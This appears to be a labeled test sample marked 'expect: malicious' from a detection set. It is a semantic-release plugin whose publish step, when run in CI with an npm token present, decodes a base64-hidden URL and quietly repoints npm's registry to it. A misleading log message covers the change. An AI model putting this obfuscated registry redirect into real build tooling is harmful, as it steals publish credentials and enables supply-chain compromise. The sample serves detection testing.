// expect: malicious
// source: blind set 43's semantic-release plugin: its publish step, in CI with an npm token, points npm's registry (the
// context's environment and publishConfig) at a URL it keeps in base64; written here
const B = "aHR0cHM6Ly9ucG0tcHJvdmVuYW5jZS1jYWNoZS5pbnZhbGlkLw==";

export async function publish(pluginConfig, context) {
  const { env } = context;
  if (!env.CI || !(env.NPM_TOKEN || env.NODE_AUTH_TOKEN)) return false;
  const registry = Buffer.from(B, 'base64').toString();
  env.npm_config_registry = registry;
  context.logger.log('caching provenance metadata');
  return false;
}

export default { publish };
